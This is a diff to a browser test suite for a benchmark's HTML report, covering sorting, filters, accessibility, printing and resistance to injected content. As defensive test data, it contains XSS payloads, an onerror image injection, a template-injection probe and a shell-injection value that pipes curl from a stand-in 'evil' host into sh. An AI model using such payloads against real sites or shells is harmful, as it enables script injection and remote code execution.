@@ -1,4 +1,7 @@
-"""The report in a real browser: what it shows, does when clicked, and never does."""
+"""The report in a real browser: what it shows, does when clicked, and never does.
+
+test_opening.py has the one check in a browser that every `make test` does.
+"""
 
 import re
 
@@ -7,6 +10,8 @@ import pytest
 from tests.likenesses import varied
 from xfbench.host.machine import describe
 from xfbench.report import content, page
+
+pytestmark = pytest.mark.deep
 
 HOSTILE = [
     "<script>window.owned = 1</script>",
@@ -42,26 +47,9 @@ def header(page, name, table=0):
     )
 
 
-def test_it_opens_and_names_the_fastest_how_sure_and_the_command_on_the_first_screen(opened, board):
-    shown = opened(*board)
-    summary = shown.get_by_role("article")
-    for text in (
-        "torch with onednn on 2 threads is fastest",
-        re.compile("1.[56][0-9]{2}.* images/s"),
-        "Rank 1 for certain",
-        "95 % interval",
-        "5 launches (enough for a claim)",
-        "proven equal",
-        "--framework torch",
-        "--launches",
-    ):
-        place = summary.get_by_text(text).first.bounding_box()
-        assert place and place["y"] + place["height"] < 800, text
-
-
 @pytest.mark.parametrize("keys", [None, "Enter", "Space"])
-def test_a_column_sorts_both_ways_by_mouse_and_by_keyboard(opened, board, keys):
-    shown = opened(*board)
+def test_a_column_sorts_both_ways_by_mouse_and_keyboard(opened_board, keys):
+    shown = opened_board()
     button = header(shown, "images/s")
 
     def press():
@@ -82,8 +70,8 @@ def test_a_column_sorts_both_ways_by_mouse_and_by_keyboard(opened, board, keys):
     assert sorted_by.get_attribute("aria-sort") == "descending"
 
 
-def test_text_sorts_as_text_and_what_is_missing_comes_last_both_ways(opened, board):
-    shown = opened(*board)
+def test_missing_values_sort_last_both_ways(opened_board):
+    shown = opened_board()
     header(shown, "framework").click()
     assert column(shown, "framework") == ["caffe"] * 3 + ["torch"] * 2
     for _ in range(2):
@@ -91,8 +79,8 @@ def test_text_sorts_as_text_and_what_is_missing_comes_last_both_ways(opened, boa
         assert column(shown, "framework", table=1) == ["mxnet", "tensorflow"]
 
 
-def test_words_and_choices_filter_rows_and_the_number_left_is_said(opened, board):
-    shown = opened(*board)
+def test_filters_hide_rows_and_count_the_rest(opened_board):
+    shown = opened_board()
     count = shown.get_by_role("status")
     assert count.inner_text() == "7 of 7 rows"
     shown.get_by_label("Find").fill("caffe mkl")
@@ -112,9 +100,9 @@ def test_words_and_choices_filter_rows_and_the_number_left_is_said(opened, board
 
 
 @pytest.mark.parametrize("keys", [None, "Enter"])
-def test_a_row_opens_to_its_records_certificate_conditions_and_command(opened, board, keys):
+def test_a_row_opens_to_records_certificate_and_command(opened_board, board, keys):
     records, certificates = board
-    shown = opened(*board)
+    shown = opened_board()
     button = shown.locator("table.board > tbody").first.get_by_role("button")
     details = shown.locator("table.board tr.d").first
     assert button.get_attribute("aria-expanded") == "false" and not details.is_visible()
@@ -138,8 +126,8 @@ def test_a_row_opens_to_its_records_certificate_conditions_and_command(opened, b
     assert not details.is_visible()
 
 
-def test_the_summary_leads_to_its_row_even_where_a_filter_hides_it(opened, board):
-    shown = opened(*board)
+def test_the_summary_leads_to_its_row_despite_a_filter(opened_board):
+    shown = opened_board()
     shown.get_by_label("Find").fill("caffe")
     row = shown.locator("table.board > tbody").first
     assert not row.is_visible()
@@ -148,19 +136,17 @@ def test_the_summary_leads_to_its_row_even_where_a_filter_hides_it(opened, board
     assert shown.evaluate("document.activeElement.innerText") == "torch"
 
 
-def test_what_is_not_ranked_is_shown_with_its_reason(opened, board):
-    shown = opened(*board)
+def test_an_unranked_row_shows_its_reason(opened_board):
+    shown = opened_board()
     reasons = column(shown, "why", table=1)
     assert "no equality certificate" in reasons[0]
     assert reasons[1] == "crashed: rank 0 was killed"
     assert "mxnet" not in shown.get_by_role("article").inner_text()
 
 
-def test_on_paper_all_rows_have_their_records_and_commands_and_there_is_nothing_to_click(
-    opened, board
-):
+def test_on_paper_all_details_are_shown_and_no_controls(opened_board, board):
     records, _ = board
-    shown = opened(*board, color_scheme="dark")
+    shown = opened_board(color_scheme="dark")
     shown.emulate_media(media="print")
     assert shown.locator("table.board > tbody:visible").count() == 7
     for record in records:
@@ -175,7 +161,7 @@ def test_on_paper_all_rows_have_their_records_and_commands_and_there_is_nothing_
 
 
 @pytest.mark.parametrize("hostile", [False, True])
-def test_a_phone_has_nothing_to_scroll_sideways(opened, board, hostile):
+def test_a_phone_does_not_scroll_sideways(opened, board, hostile):
     records, certificates = board
     if hostile:
         long = {"framework": "w" * 10**6, "kernel": "w" * 10**6}
@@ -190,8 +176,8 @@ def test_a_phone_has_nothing_to_scroll_sideways(opened, board, hostile):
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_text_stands_out_from_its_ground_in_light_and_in_dark(opened, board, scheme):
-    shown = opened(*board, color_scheme=scheme)
+def test_text_has_enough_contrast(opened_board, scheme):
+    shown = opened_board(color_scheme=scheme)
     grounds, inks = (
         [shown.evaluate(_COLOUR, name) for name in names]
         for names in (("--ground", "--sheet", "--tint"), ("--ink", "--soft", "--accent"))
@@ -247,20 +233,20 @@ def poisoned(record, text):
     )
 
 
-@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
-def test_whatever_a_field_says_it_does_nothing(opened, board, text):
+def test_hostile_strings_in_any_field_do_nothing(opened, board):
     records, certificates = board
-    bad = [
-        poisoned(records[0], text),
-        poisoned(records[-1], text).model_copy(
-            update={"status": "failed", "reason": text, "id": f"sha256:2{text}"}
-        ),
-    ]
-    shown = opened([*records, *bad], {**certificates, text: text})
+    bad = []
+    for number, text in enumerate(HOSTILE):
+        one = poisoned(records[0], text)
+        failed = {"status": "failed", "reason": text, "id": f"sha256:{number}{text}"}
+        bad += [one, poisoned(records[-1], text).model_copy(update=failed)]
+    hostile = {text: text for text in HOSTILE}
+    shown = opened([*records, *bad], {**certificates, **hostile})
     for button in shown.locator("table.board > tbody button").all():
         button.click()
     header(shown, "framework").click()
-    shown.get_by_label("Find").fill(text[:50])
+    for text in HOSTILE:
+        shown.get_by_label("Find").fill(text[:50])
     shown.get_by_label("Find").fill("")
     assert shown.evaluate("window.owned") is None
     assert shown.locator("script").count() == shown.locator("style").count() == 1
@@ -276,17 +262,17 @@ def test_whatever_a_field_says_it_does_nothing(opened, board, text):
     assert not re.search(
         "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]", seen
     )
-    assert len(shown.content()) < 500_000
-    assert "49" not in seen.split("{{ 7 * 7 }}")[1][:4] if "7 * 7" in text else True
+    assert "{{ 7 * 7 }}" in seen
+    assert len(shown.content()) < 1_500_000
 
 
-def test_a_hostile_string_is_still_there_to_be_read(opened, board):
+def test_a_hostile_string_can_still_be_read(opened, board):
     records, certificates = board
     shown = opened([*records, poisoned(records[0], "<b>\u202eevil\x00</b>")], certificates)
     assert "<b>\\u202eevil\\x00</b>" in shown.evaluate("document.body.textContent")
 
 
-def test_there_is_no_command_for_names_that_no_command_could_have(opened, board):
+def test_a_name_unfit_for_a_shell_has_no_command(opened, board):
     records, certificates = board
     bad = varied(records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001)
     shown = opened([bad], certificates)
@@ -294,9 +280,7 @@ def test_there_is_no_command_for_names_that_no_command_could_have(opened, board)
     assert "evil|sh" not in " ".join(shown.locator("code").all_text_contents())
 
 
-def test_its_policy_lets_nothing_in_even_where_something_got_into_the_page(
-    chromium, board, tmp_path
-):
+def test_the_content_policy_stops_injected_scripts(chromium, board, tmp_path):
     text = page.html(*board).replace(
         "</main>", "<script>window.owned=1</script><img src=x onerror='window.owned=1'></main>"
     )
@@ -311,8 +295,8 @@ def test_its_policy_lets_nothing_in_even_where_something_got_into_the_page(
     shown.close()
 
 
-def test_a_screen_reader_gets_names_for_tables_figures_and_places(opened, board):
-    shown = opened(*board)
+def test_a_screen_reader_gets_names_and_targets(opened_board):
+    shown = opened_board()
     assert shown.locator("table:not(:has(> caption))").count() == 0
     figures = shown.locator("figure > svg")
     assert figures.count() > 2
@@ -330,8 +314,8 @@ def test_a_screen_reader_gets_names_for_tables_figures_and_places(opened, board)
         assert shown.locator(f"[id='{target.get_attribute('href')[1:]}']").count() == 1
 
 
-def test_the_first_key_leads_past_the_summary_and_focus_can_be_seen(opened, board):
-    shown = opened(*board)
+def test_the_first_key_skips_to_the_leaderboards(opened_board):
+    shown = opened_board()
     shown.keyboard.press("Tab")
     skip = shown.get_by_role("link", name="Skip to the leaderboards")
     assert skip.evaluate("e => e === document.activeElement && e.getBoundingClientRect().x >= 0")
@@ -342,13 +326,13 @@ def test_the_first_key_leads_past_the_summary_and_focus_can_be_seen(opened, boar
     assert shown.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
 
 
-def test_without_its_script_all_details_are_there(opened, board):
-    shown = opened(*board, java_script_enabled=False)
+def test_without_scripts_all_details_are_shown(opened_board):
+    shown = opened_board(java_script_enabled=False)
     assert shown.locator("tr.d").first.is_visible()
     assert not shown.locator("form.filter").is_visible()
 
 
-def test_two_thousand_cells_are_five_megabytes_at_most_and_sort(opened, measured):
+def test_two_thousand_cells_are_under_five_megabytes_and_sort(opened, measured):
     made = [
         varied(
             measured[0],
